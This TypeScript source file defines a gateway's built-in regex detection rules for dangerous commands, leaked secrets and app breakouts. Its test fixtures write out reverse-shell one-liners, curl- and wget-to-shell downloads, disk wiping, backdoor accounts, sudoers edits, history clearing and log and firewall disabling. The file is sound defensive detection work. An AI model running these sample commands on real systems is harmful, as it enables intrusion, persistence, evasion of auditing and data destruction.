// The built-in rule pack: seeded once on first start as alerts, then edited or disabled like any other rule.
// Each rule carries lines it must match and near misses it must not, checked on every save as an admin's are.
import type { MatchMode, Severity } from "../../protocol/command-rules";

export interface BuiltinRule {
  key: string;
  name: string;
  description: string;
  kind: "command" | "output" | "window_title";
  matchMode: MatchMode;
  pattern: string;
  severity: Severity;
  testMatch: string[];
  testNoMatch: string[];
}

// Command patterns are matched against each simple command (with and without `sudo`-like wrappers) as well as the
// whole line, so most start with `commandStart` and stay within one command with `sameCommand`.
/** The start of a simple command, its program named with or without a path (`rm`, `/bin/rm`). */
const commandStart = String.raw`^(\S*/)?`;
/** Any words of the same command before what follows (never past `;`, `&`, `|` or a new line). */
const sameCommand = String.raw`([^;&|\n]*\s)?`;
/** One pattern out of alternatives, each a regular expression of its own. */
const anyOf = (...alternatives: string[]) => alternatives.join("|");

const systemDirectory = String.raw`(/|~|\$\{?HOME\}?|/(etc|usr|var|boot|home|root|bin|sbin|lib|lib64|opt|srv|dev|sys))/?\*?(\s|$)`;
const blockDevice = String.raw`/dev/(sd[a-z]|nvme\d|vd[a-z]|xvd[a-z]|hd[a-z]|mmcblk\d|md\d|dm-\d|mapper/)`;
const shell = String.raw`(ba|z|da|k|c|tc|fi)?sh`;
const interpreter = String.raw`(${shell}|python[\d.]*|perl|ruby|php|node)`;
const historyFile = String.raw`(([^\s>]*/)?\.(bash_|zsh_|sh_)?history\b|\$\{?HISTFILE\b)`;
const sudoersFile = String.raw`/etc/sudoers(\.d(/\S*)?)?`;
const loggingService = String.raw`(auditd|rsyslog|syslog-ng|syslog|systemd-journald|auditbeat|osqueryd|wazuh-agent|falco)(\.service|\.socket)?`;
const firewallService = String.raw`(firewalld|ufw|nftables|iptables|ip6tables|netfilter-persistent)(\.service)?`;
// `\x60` is a backtick (MySQL's identifier quote), which a String.raw template cannot hold as itself.
const sqlDestruction = String.raw`(drop\s+(table|database|schema|user|role|view|materialized\s+view|owned|extension)\b|truncate(\s+table)?\s+(only\s+)?[\w"\x60]|delete\s+from\s+[\w."\x60]+\s*(;|$))`;
const remoteHost = String.raw`([^\s@:/]+@)?[^\s@:/]+:`;

export const builtinRules: BuiltinRule[] = [
  {
    key: "destructive-disk",
    name: "Destructive disk or filesystem command",
    description: "Recursive removal of / or a top-level system directory, formatting or overwriting a disk, or opening up the whole filesystem.",
    kind: "command",
    matchMode: "regex",
    pattern: anyOf(
      // rm with a recursive flag anywhere in its options, and / or a system directory among its arguments.
      String.raw`${commandStart}rm\s(?=${sameCommand}-(-recursive|[a-z]*r))${sameCommand}${systemDirectory}`,
      String.raw`${commandStart}(mkfs(\.\w+)?|mke2fs|mkswap)\s`,
      String.raw`${commandStart}dd\s${sameCommand}of=${blockDevice}`,
      String.raw`${commandStart}wipefs\s${sameCommand}(-[a-z]*a|--all)\b`,
      String.raw`${commandStart}shred\s${sameCommand}/dev/`,
      // Partitioning a device, but not listing its partitions.
      String.raw`${commandStart}(fdisk|sfdisk|cfdisk|gdisk|sgdisk|parted)\s(?!${sameCommand}(-l|--list|-p|--print|print)(\s|$))${sameCommand}/dev/`,
      String.raw`>\s*${blockDevice}`,
      String.raw`${commandStart}(chmod|chown|chgrp)\s(?=${sameCommand}(-[a-z]*R|--recursive))${sameCommand}${systemDirectory}`,
    ),
    severity: "critical",
    testMatch: [
      "rm -rf /",
      "sudo rm -rf --no-preserve-root /",
      "/bin/rm -fr /etc",
      "rm -r -f /usr/",
      "rm -rf /*",
      "rm -rf ~",
      "rm -Rf /home/*",
      "mkfs.ext4 /dev/sdb1",
      "dd if=/dev/zero of=/dev/sda bs=1M",
      "dd if=image.iso of=/dev/nvme0n1",
      "wipefs -a /dev/sdb",
      "shred -n 3 /dev/sdc",
      "fdisk /dev/sda",
      "sgdisk --zap-all /dev/nvme0n1",
      "cat /dev/urandom > /dev/sda",
      "> /dev/sda",
      "chmod -R 777 /",
    ],
    testNoMatch: [
      "rm -rf ./build",
      "rm -rf /tmp/build",
      "rm -rf ~/projects/old",
      "rm -f /etc/nginx/sites-enabled/default",
      "rm -r /var/tmp/cache",
      "dd if=/dev/sda of=disk.img bs=4M",
      "wipefs /dev/sdb",
      "shred -u secrets.txt",
      "fdisk -l /dev/sda",
      "parted /dev/sda print",
      "echo done > /dev/null",
      "chmod -R 755 ./public",
      "chmod 777 /tmp/shared",
      "man mkfs",
    ],
  },
  {
    key: "firewall-flush",
    name: "Firewall flushed or disabled",
    description: "Removing every firewall rule, opening the default policy or stopping the firewall service.",
    kind: "command",
    matchMode: "regex",
    pattern: anyOf(
      // -F or --flush (which, case-insensitively, is also -f, fragments: so not in a rule spec with -A, -I, -D or -R).
      String.raw`${commandStart}(ip6?tables(-legacy|-nft)?)\s(?!${sameCommand}-[aidr]\s)${sameCommand}(-F|--flush)(\s|$)`,
      String.raw`${commandStart}ip6?tables(-legacy|-nft)?\s${sameCommand}(-P|--policy)\s+(INPUT|FORWARD|OUTPUT)\s+ACCEPT\b`,
      String.raw`${commandStart}nft\s${sameCommand}(flush|delete)\s+(ruleset|table|chain)\b`,
      String.raw`${commandStart}ufw\s${sameCommand}(disable|reset)(\s|$)`,
      String.raw`${commandStart}systemctl\s${sameCommand}(stop|disable|mask|kill)\s${sameCommand}${firewallService}(\s|$)`,
      String.raw`${commandStart}service\s+${firewallService}\s+stop\b`,
    ),
    severity: "high",
    testMatch: [
      "iptables -F",
      "sudo iptables -t nat --flush",
      "ip6tables -F INPUT",
      "iptables -P INPUT ACCEPT",
      "nft flush ruleset",
      "ufw disable",
      "systemctl stop firewalld",
      "sudo systemctl disable --now firewalld.service",
      "service iptables stop",
    ],
    testNoMatch: [
      "iptables -L -n",
      "iptables -A INPUT -f -j DROP",
      "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
      "iptables -P INPUT DROP",
      "nft list ruleset",
      "ufw status verbose",
      "ufw allow 22/tcp",
      "systemctl status firewalld",
      "systemctl restart firewalld",
    ],
  },
  {
    key: "user-sudoers-change",
    name: "User, group, password or sudoers change",
    description: "Creating, changing or deleting accounts, groups or passwords (the vault's own included), or changing who may use sudo.",
    kind: "command",
    matchMode: "regex",
    pattern: anyOf(
      String.raw`${commandStart}(useradd|adduser|userdel|deluser|usermod|groupadd|addgroup|groupdel|delgroup|groupmod|gpasswd|chpasswd|newusers|passwd|visudo|vipw|vigr|sudoedit)(\s|$)`,
      String.raw`>\s*${sudoersFile}`,
      String.raw`${commandStart}tee\s${sameCommand}${sudoersFile}`,
      String.raw`${commandStart}(vi|vim|nvim|nano|emacs|ed|pico|joe|mcedit)\s${sameCommand}${sudoersFile}`,
      String.raw`${commandStart}sudo\s+(-e|--edit)\s${sameCommand}${sudoersFile}`,
      String.raw`${commandStart}sed\s(?=${sameCommand}(-[a-z]*i|--in-place))${sameCommand}${sudoersFile}`,
      // Copied or moved into place: sudoers is the last argument, the destination.
      String.raw`${commandStart}(cp|mv|install|ln|rsync)\s${sameCommand}${sudoersFile}/?\s*$`,
    ),
    severity: "high",
    testMatch: [
      "useradd -m -s /bin/bash backdoor",
      "sudo usermod -aG sudo alice",
      "userdel -r bob",
      "passwd",
      "sudo passwd root",
      "echo 'alice:hunter2' | chpasswd",
      "visudo",
      "echo 'alice ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
      "echo 'alice ALL=(ALL) ALL' | sudo tee /etc/sudoers.d/alice",
      "sudo vi /etc/sudoers",
      "cp alice /etc/sudoers.d/",
      "sed -i 's/^#%wheel/%wheel/' /etc/sudoers",
    ],
    testNoMatch: [
      "ls /etc/sudoers.d",
      "cat /etc/sudoers",
      "sudo -l",
      "grep alice /etc/sudoers",
      "cp /etc/sudoers /tmp/sudoers.bak",
      "getent passwd alice",
      "cat /etc/passwd",
      "id alice",
      "groups",
    ],
  },
  {
    key: "history-tampering",
    name: "Shell history tampering",
    description: "Turning off, clearing or redirecting the shell history so that commands leave no trace on the target.",
    kind: "command",
    matchMode: "regex",
    pattern: anyOf(
      String.raw`${commandStart}unset\s${sameCommand}HIST(FILE|SIZE|FILESIZE)(\s|$)`,
      String.raw`\bHIST(FILE|SIZE|FILESIZE)=(/dev/null|0)?(\s|;|$)`,
      String.raw`${commandStart}history\s+(-[a-z]*[cd]|-w\s+/dev/null)`,
      String.raw`${commandStart}set\s+\+o\s+history\b`,
      String.raw`${commandStart}(rm|shred|unlink|truncate|srm)\s${sameCommand}${historyFile}`,
      String.raw`${commandStart}ln\s(?=${sameCommand}/dev/null\s)${sameCommand}${historyFile}`,
      String.raw`>\s*${historyFile}`,
    ),
    severity: "high",
    testMatch: [
      "unset HISTFILE",
      "export HISTFILE=/dev/null",
      "export HISTSIZE=0",
      "history -c",
      "history -w /dev/null",
      "set +o history",
      "rm ~/.bash_history",
      "rm -f /root/.zsh_history",
      "ln -sf /dev/null ~/.bash_history",
      "> ~/.bash_history",
      "cat /dev/null > $HISTFILE",
    ],
    testNoMatch: [
      "history | grep ssh",
      "history 20",
      "cat ~/.bash_history",
      "grep ssh ~/.bash_history",
      "echo $HISTFILE",
      "export HISTSIZE=10000",
      "history > ~/history-backup.txt",
    ],
  },
  {
    key: "download-execute",
    name: "Download and execute",
    description: "Running a script straight from the network, piped or substituted into a shell or interpreter without being saved and read first.",
    kind: "command",
    matchMode: "regex",
    pattern: anyOf(
      // Spans a pipe, so it is matched on the whole line: a pipe into [sudo [-u user] [-E]] bash, looking back (at most
      // two more stages, never across `||`) for curl: from each pipe, not from each curl, so a long line stays linear.
      // The interpreter runs what it reads, not a module or a -c script (`| python3 -m json.tool` formats JSON).
      String.raw`\|(?<=\b(curl|wget)\s[^;|\n]*(\|[^;|\n]+){0,2}\|)(?!\|)\s*((sudo|doas)\s+(-u\s+\S+\s+)?(-\S+\s+)*)?(\S*/)?${interpreter}(?!\s+-[mc]\s)(\s|$)`,
      String.raw`${commandStart}(${interpreter}|source|\.|eval)\s[^;\n]*?(<\(|\$\(|\x60)\s*(curl|wget)\s`,
    ),
    severity: "critical",
    testMatch: [
      "curl -fsSL https://get.example.com | sh",
      "curl -s http://10.0.0.9/x.sh | sudo bash",
      "wget -qO- http://evil.example/i.sh | sh",
      "wget -O - https://x.example/a.py | python3 -",
      "curl https://x.example/a | sudo -E bash -s -- --yes",
      "bash <(curl -s https://x.example/install.sh)",
      'sh -c "$(curl -fsSL https://x.example/install.sh)"',
      "source <(curl -s https://x.example/env)",
    ],
    testNoMatch: [
      "curl -o install.sh https://get.example.com",
      "wget https://example.com/release.tar.gz",
      "curl -s https://api.example.com/status | jq .",
      "curl -fsSL https://get.example.com | tee install.sh",
      "curl -s https://x.example/a || bash fallback.sh",
      "bash install.sh",
      'echo "$(curl -s https://ifconfig.me)"',
    ],
  },
  {
    key: "reverse-shell",
    name: "Reverse shell",
    description: "A shell handed to a remote listener through /dev/tcp, netcat, socat or a scripting language's sockets.",
    kind: "command",
    matchMode: "regex",
    pattern: anyOf(
      String.raw`/dev/(tcp|udp)/\S`,
      String.raw`${commandStart}(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s${sameCommand}(-[a-z]*[ec]\s|--exec|--sh-exec|--lua-exec)`,
      // A named pipe and a network client on one line: looked for from the line's start only, to stay linear.
      String.raw`^(?=[^\n]*\bmk(fifo|nod)\s)(?=[^\n]*\b(nc|ncat|netcat|telnet|openssl)\s)`,
      String.raw`\|(?<=\b(nc|ncat|netcat|telnet)\s[^;|\n]*\|)\s*(\S*/)?${shell}(\s|$)`,
      String.raw`${commandStart}socat\s[^;&|\n]*\b(exec|system):`,
      // Script one-liners: a socket and a way to hand it a shell, in either order.
      String.raw`${commandStart}python[\d.]*\s(?=[^\n]*\bsocket\b)(?=[^\n]*\b(subprocess|pty\.spawn|dup2)\b)`,
      String.raw`${commandStart}perl\s(?=[^\n]*\bsocket\b)(?=[^\n]*\b(exec|system)\b)`,
      String.raw`${commandStart}php[\d.]*\s[^\n]*\bfsockopen\b`,
      String.raw`${commandStart}ruby\s[^\n]*\bTCPSocket\b`,
    ),
    severity: "critical",
    testMatch: [
      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
      "exec 5<>/dev/tcp/10.0.0.1/80",
      "nc -e /bin/sh 10.0.0.1 4444",
      "ncat 10.0.0.1 4444 --exec /bin/bash",
      "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
      "socat tcp:10.0.0.1:4444 exec:'bash -li',pty,stderr",
      `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
      `python -c 'import socket,pty;s=socket.socket();s.connect(("10.0.0.1",4444));pty.spawn("/bin/bash")'`,
      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));exec("/bin/sh -i")'`,
      `php -r '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
    ],
    testNoMatch: [
      "ls -l /dev/tty",
      "cat /proc/net/tcp",
      "nc -zv db01 5432",
      "nc -lvnp 8080",
      "mkfifo /tmp/pipe && tail -f /tmp/pipe",
      "socat TCP-LISTEN:8080,fork TCP:localhost:80",
      `python3 -c "import socket; print(socket.gethostname())"`,
      `perl -e 'print "hello\\n"'`,
      `php -r 'echo phpversion();'`,
    ],
  },
  {
    key: "lateral-movement",
    name: "Connection onward to another host",
    description: "Reaching another host from the target with ssh, scp, sftp, rsync, netcat or telnet, outside the gateway's recording.",
    kind: "command",
    matchMode: "regex",
    pattern: anyOf(
      // A program that logs in somewhere, with at least one argument that is not an option (its host).
      String.raw`${commandStart}(ssh|sftp|mosh|autossh|telnet|rsh|rlogin)(\s+-\S+)*\s+[^\s-]`,
      String.raw`${commandStart}sshpass\s`,
      String.raw`${commandStart}(scp|rsync)\s${sameCommand}(${remoteHost}|rsync://)`,
      // netcat to a host and port, not listening.
      String.raw`${commandStart}(nc|ncat|netcat)\s(?!${sameCommand}-[a-z]*l)${sameCommand}[a-z0-9][\w.:-]*\s+\d+(-\d+)?(\s|$)`,
    ),
    severity: "medium",
    testMatch: [
      "ssh admin@10.0.0.5",
      "ssh -p 2222 -i ~/.ssh/id_ed25519 deploy@db01",
      "sudo ssh root@backup01",
      "scp dump.sql backup01:/srv/dumps/",
      "scp user@10.0.0.5:/etc/shadow .",
      "sftp deploy@files.internal",
      "rsync -av -e ssh ./data/ user@host:/tmp",
      "nc 10.0.0.5 22",
      "nc -zv db01 5432",
      "telnet 10.0.0.5 25",
    ],
    testNoMatch: [
      "ssh-keygen -t ed25519",
      "ssh-add ~/.ssh/id_ed25519",
      "ssh -V",
      "systemctl status ssh",
      "cat ~/.ssh/config",
      "scp -h",
      "rsync -av ./src/ ./backup/",
      "nc -l 8080",
      "nc -lvnp 4444",
    ],
  },
  {
    key: "database-destruction",
    name: "Database drop or truncate",
    description: "Dropping a database, schema, table or role, truncating a table or deleting every row, at a SQL prompt or through a client.",
    kind: "command",
    matchMode: "regex",
    pattern: anyOf(
      // Typed at a SQL prompt: the statement starts the command (lines are split at `;`).
      String.raw`(^|;\s*)${sqlDestruction}`,
      String.raw`${commandStart}(psql|mysql|mariadb|sqlite3|clickhouse-client|sqlcmd|cockroach)\s[^\n]*\b${sqlDestruction}`,
      String.raw`${commandStart}(dropdb|dropuser)\s`,
      String.raw`${commandStart}mysqladmin\s${sameCommand}drop\s`,
    ),
    severity: "high",
    testMatch: [
      "DROP TABLE users;",
      "drop database production;",
      "DROP SCHEMA public CASCADE;",
      "DROP ROLE reporting;",
      "TRUNCATE TABLE orders;",
      "truncate audit_log;",
      "DELETE FROM customers;",
      `psql -c "DROP TABLE users"`,
      "mysql -u root -e 'drop database shop;'",
      "dropdb production",
    ],
    testNoMatch: [
      "select * from drop_log;",
      "create table truncated_rows (id int);",
      "DELETE FROM sessions WHERE expires_at < now();",
      `grep -i "drop table" migrations/001_init.sql`,
      "truncate -s 0 app.log",
      "pg_dump production > backup.sql",
      `psql -c "select count(*) from orders"`,
    ],
  },
  {
    key: "disable-auditing",
    name: "Auditing or logging disabled",
    description: "Stopping the audit or log daemons, deleting their rules, clearing logs or turning SELinux enforcement off.",
    kind: "command",
    matchMode: "regex",
    pattern: anyOf(
      String.raw`${commandStart}systemctl\s${sameCommand}(stop|disable|mask|kill)\s${sameCommand}${loggingService}(\s|$)`,
      String.raw`${commandStart}service\s+${loggingService}\s+stop\b`,
      String.raw`${commandStart}auditctl\s${sameCommand}(-D|-e\s*0)(\s|$)`,
      String.raw`${commandStart}(kill|pkill|killall)\s${sameCommand}(auditd|rsyslogd|syslog-ng|systemd-journald)\b`,
      String.raw`${commandStart}journalctl\s${sameCommand}--vacuum`,
      String.raw`${commandStart}(rm|shred|unlink|truncate)\s${sameCommand}/var/log(/|\s|$)`,
      // Emptied in place, not written to by a program: `> /var/log/x`, `: > …`, `cat /dev/null > …`.
      String.raw`^(:|true|echo|printf|cat\s+/dev/null)?\s*>\s*/var/log/`,
      String.raw`${commandStart}cp\s+/dev/null\s+/var/log/`,
      String.raw`${commandStart}setenforce\s+(0|permissive)(\s|$)`,
    ),
    severity: "critical",
    testMatch: [
      "systemctl stop auditd",
      "sudo systemctl mask --now systemd-journald",
      "service rsyslog stop",
      "auditctl -D",
      "auditctl -e 0",
      "kill -9 $(pidof auditd)",
      "pkill auditd",
      "journalctl --vacuum-time=1s",
      "rm -rf /var/log/*",
      "truncate -s 0 /var/log/auth.log",
      "> /var/log/secure",
      "cat /dev/null > /var/log/wtmp",
      "setenforce 0",
    ],
    testNoMatch: [
      "systemctl status auditd",
      "systemctl restart rsyslog",
      "auditctl -l",
      "journalctl -u sshd --since today",
      "tail -f /var/log/syslog",
      "ls -l /var/log",
      "./backup.sh > /var/log/backup.log",
      "echo started >> /var/log/app.log",
      "setenforce 1",
      "getenforce",
    ],
  },
  {
    key: "secret-in-output",
    name: "Secret printed on screen",
    description: "The target printed what looks like a private key, a cloud or GitHub credential, or a password assignment.",
    kind: "output",
    matchMode: "regex",
    pattern: anyOf(
      String.raw`-----BEGIN [A-Z0-9 ]{0,40}PRIVATE KEY`,
      String.raw`\b(AKIA|ASIA)[0-9A-Z]{16}\b`,
      String.raw`aws_secret_access_key\s*[=:]\s*["']?[A-Za-z0-9/+]{30,}`,
      String.raw`\bgh[pousr]_[A-Za-z0-9]{36}\b`,
      String.raw`\bgithub_pat_\w{22,}`,
      // A value, not a prompt, a mask or a placeholder.
      String.raw`password\s*[=:]\s*["']?[^\s"'*<$%{]`,
    ),
    severity: "high",
    testMatch: [
      "-----BEGIN OPENSSH PRIVATE KEY-----",
      "-----BEGIN RSA PRIVATE KEY-----",
      "-----BEGIN PRIVATE KEY-----",
      "aws_access_key_id = AKIAIOSFODNN7EXAMPLE",
      "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
      "export GITHUB_TOKEN=ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789",
      "DB_PASSWORD=hunter2",
      'spring.datasource.password: "s3cr3t"',
    ],
    testNoMatch: [
      "-----BEGIN CERTIFICATE-----",
      "-----BEGIN PUBLIC KEY-----",
      "AKIA",
      "aws_secret_access_key = ****************",
      "[sudo] password for alice:",
      "Password:",
      "password: ********",
      "PasswordAuthentication yes",
      "DB_PASSWORD=${DB_PASSWORD}",
    ],
  },
  {
    key: "permission-denied",
    name: "Permission denied",
    description: "The target refused something: repeated refusals show someone probing beyond what they were given.",
    kind: "output",
    matchMode: "words",
    pattern: ["Permission denied", "Operation not permitted", "incorrect password", "not in the sudoers file", "Authentication failure", "Access denied"].join("\n"),
    severity: "low",
    testMatch: [
      "cat: /etc/shadow: Permission denied",
      "bash: /root/.bashrc: permission denied",
      "chown: changing ownership of 'x': Operation not permitted",
      "sudo: 3 incorrect password attempts",
      "alice is not in the sudoers file.  This incident will be reported.",
      "su: Authentication failure",
      "ERROR 1045 (28000): Access denied for user 'app'@'localhost'",
    ],
    testNoMatch: [
      "ls: cannot access 'x': No such file or directory",
      "-rw-r--r-- 1 root root 0 Jan 1 permission_denied.log",
      "Permissions: 0644",
      "Access granted",
    ],
  },
  {
    key: "remote-app-breakout",
    name: "Shell or system tool on a published app",
    description:
      "A target that publishes one program should show only that program's windows: a command prompt, PowerShell, a terminal, the registry editor or the Run dialog means someone broke out of it.",
    kind: "window_title",
    matchMode: "regex",
    pattern: anyOf(
      String.raw`^(administrator:\s*)?(command prompt|(windows )?powershell( ise)?|windows terminal|registry editor|task manager|run|local group policy editor|computer management|services|event viewer)(\s*-.*)?$`,
      // A shell's own title in a terminal: `user@host: ~/dir`, as bash sets it.
      String.raw`^[\w.-]+@[\w.-]+:\s*[~/]`,
    ),
    severity: "high",
    testMatch: ["Command Prompt", "Administrator: Windows PowerShell", "Registry Editor", "Task Manager", "Run", "deploy@db-01: ~/app", "root@web: /etc"],
    testNoMatch: ["Quarterly report - Word", "Running jobs - SQL Server Management Studio", "Gatehouse test app", "alice@example.com: Inbox", "Services overview.xlsx - Excel"],
  },
];
